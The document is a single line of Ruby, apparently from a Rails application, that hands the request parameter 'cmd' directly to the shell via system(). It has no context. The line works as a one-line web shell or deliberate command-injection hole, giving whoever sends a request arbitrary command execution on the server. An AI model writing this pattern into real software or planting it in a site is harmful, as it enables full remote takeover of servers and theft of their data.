system(params[:cmd])
